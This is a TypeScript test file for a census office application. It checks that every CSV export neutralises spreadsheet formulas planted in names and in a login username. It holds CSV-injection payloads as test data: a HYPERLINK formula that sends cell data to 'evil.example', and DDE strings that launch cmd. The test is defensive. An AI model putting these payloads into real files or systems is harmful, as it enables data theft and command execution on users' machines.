import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExportHandle } from '../../electron/files/exported-file.js';
import { startOfficeServer, type OfficeServer } from '../../electron/server/office-server.js';
import { bloraBackend, type TestBackend } from '../support/backend.js';
import { SAMPLES } from '../support/census-seed.js';
import { exportText } from '../support/exports.js';
import { rawPost } from '../support/http-session.js';
import { makeNip, writeCsv } from '../support/integrity.js';
import { tempDir } from '../support/office-process.js';

// Formulas an attacker puts in a name a clerk imports (or types as a user name at the login), and
// that a spreadsheet would run when someone opens the export (OWASP CSV injection).
const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk detail")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)*cmd|" /C calc"!A0';
const DASH = "-2+3+cmd|' /C calc'!A0";
const SPACED = '  =1+1';
const HOSTILE = [HYPERLINK, CMD, SUM, DASH, SPACED];

/** A cell a spreadsheet would evaluate: = + - @ first (also after spaces or a double quote), or a tab or CR. */
const evaluates = (cell: string) =>
  /^[ \u00a0"]*[=+\-@]|^[\t\r]/.test(cell) && !Number.isFinite(Number(cell.replace(',', '.')));

function csvQuote(text: string): string {
  return /[;"\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

let backend: TestBackend;

beforeAll(async () => {
  backend = await bloraBackend();
  const dir = backend.dir;
  // The SLS master with hostile names on its first rows, through the real importer.
  const sls = fs.readFileSync(path.join(SAMPLES, 'sls-blora.csv'), 'utf8').split(/\r?\n/);
  HOSTILE.forEach((name, i) => {
    const [id, desa, , kk] = sls[i + 1].split(';');
    sls[i + 1] = [id, desa, csvQuote(name), kk].join(';');
  });
  await backend.call('census.sls.import', { file: { path: writeFile(dir, 'sls.csv', sls.join('\r\n')) } });
  // The officer list: a Koseka, a PML and a PPL with hostile names.
  const officers = fs.readFileSync(path.join(SAMPLES, 'petugas-blora.csv'), 'utf8').split(/\r?\n/);
  const ppl = 'PPL-3316-0001';
  for (const [kode, name] of [
    ['KSK-3316-001', HYPERLINK],
    ['PML-3316-0001', CMD],
    [ppl, SUM],
  ]) {
    const i = officers.findIndex((l) => l.startsWith(`${kode},`));
    const cells = Papa.parse<string[]>(officers[i]).data[0];
    cells[1] = name;
    officers[i] = Papa.unparse([cells]);
  }
  await backend.call('census.officers.import', { file: { path: writeFile(dir, 'petugas.csv', officers.join('\n')) } });
  const slsIds = sls.slice(1, 1 + HOSTILE.length).map((l) => l.split(';')[0]);
  await backend.call('census.assignments.assign', { slsIds, officer: ppl });
  // An OPD and its employees with hostile names.
  await backend.call('integrity.opd.import', {
    file: {
      path: writeCsv(dir, 'opd.csv', 'kode;nama;jenis', [`OPD-66;${csvQuote(SUM)};dinas`, 'OPD-67;Dinas Aman;dinas']),
    },
  });
  const pegawai = HOSTILE.map((name, i) => `${makeNip(i)};${csvQuote(name)};${csvQuote(i ? 'Staf' : CMD)};OPD-66;PNS`);
  await backend.call('integrity.pegawai.import', {
    file: { path: writeCsv(dir, 'pegawai.csv', 'nip;nama;jabatan;unit_kerja;status', pegawai) },
    date: '2026-01-01',
  });
  await backend.call('integrity.pact.sign', { opd: 'OPD-66', nips: [makeNip(0), makeNip(1)], signedAt: '2026-01-10' });
  // A real failed login over HTTP, with a formula as the user name.
  const staticDir = tempDir();
  fs.writeFileSync(path.join(staticDir, 'index.html'), '<!doctype html>');
  const server: OfficeServer = await startOfficeServer({
    api: backend.api,
    staticDir,
    port: 0,
    dataDir: backend.dataDir,
  });
  const refused = await rawPost(
    `${server.url}api/call/users.auth.login`,
    JSON.stringify({ username: HYPERLINK, password: 'salah-sekali' }),
  );
  expect(refused.status).toBe(401);
  await server.close();
});
afterAll(() => backend.close());

function writeFile(dir: string, name: string, text: string): string {
  const file = path.join(dir, name);
  fs.writeFileSync(file, text);
  return file;
}

/** Every CSV export the app writes, in both CSV flavours. */
const EXPORTS: [string, (format: 'csv' | 'csv-excel') => Promise<ExportHandle>][] = [
  ['assignments', (format) => backend.call('census.assignments.export', { format })],
  ['progress per SLS', (format) => backend.call('progress.export', { level: 'sls', parent: '33.16.01.2001', format })],
  ['progress per PPL', (format) => backend.call('progress.export', { level: 'ppl', format })],
  ['progress per PML', (format) => backend.call('progress.export', { level: 'pml', format })],
  ['participation', (format) => backend.call('participation.export', { level: 'desa', format })],
  ['households', (format) => backend.call('sync.exportHouseholds', { format })],
  ['pacts', (format) => backend.call('integrity.export.pacts', { format })],
  ['integrity overview', (format) => backend.call('integrity.export.integrity', { format })],
  ['audit trail', (format) => backend.call('audit.exportCsv', { format })],
];

describe('no CSV the app writes carries a live formula', () => {
  describe.each(['csv', 'csv-excel'] as const)('%s', (format) => {
    it.each(EXPORTS.map(([name, make]) => [name, make]))('%s', async (_name, make) => {
      const text = exportText(backend, await (make as (f: typeof format) => Promise<ExportHandle>)(format));
      const cells = Papa.parse<string[]>(text, {
        delimiter: format === 'csv' ? ',' : ';',
        skipEmptyLines: true,
      }).data.flat();
      expect(cells.length).toBeGreaterThan(1);
      expect(cells.filter(evaluates)).toEqual([]);
    });
  });

  it('keeps each hostile name, as text behind an apostrophe, where it belongs', async () => {
    const cellsOf = async (handle: Promise<ExportHandle>) =>
      Papa.parse<string[]>(exportText(backend, await handle), { skipEmptyLines: true }).data.flat();
    const assignments = await cellsOf(backend.call('census.assignments.export', { format: 'csv' }));
    const sls = await cellsOf(
      backend.call('progress.export', { level: 'sls', parent: '33.16.01.2001', format: 'csv' }),
    );
    // The importers trim names, so "  =1+1" is stored (and exported) as "=1+1".
    for (const name of HOSTILE) expect(sls).toContain(`'${name.trim()}`);
    for (const name of HOSTILE) expect(assignments).toContain(`'${name.trim()}`);
    const ppl = await cellsOf(backend.call('progress.export', { level: 'ppl', format: 'csv' }));
    expect(ppl).toContain(`'${SUM}`);
    const pacts = await cellsOf(backend.call('integrity.export.pacts', { format: 'csv' }));
    expect(pacts).toEqual(
      expect.arrayContaining([`'${SUM}`, `'${HYPERLINK}`, `'${CMD}`, `'${DASH}`, `'${SPACED.trim()}`]),
    );
    const audit = await cellsOf(backend.call('audit.exportCsv', { format: 'csv', operation: 'users.auth.login' }));
    expect(audit.filter((c) => c === `'${HYPERLINK}`)).toHaveLength(2); // user and entity_id
    // Negative numbers are numbers, not text.
    expect(Papa.parse<string[]>('id,n\n1,-3\n').data[1][1]).toBe('-3');
  });
});
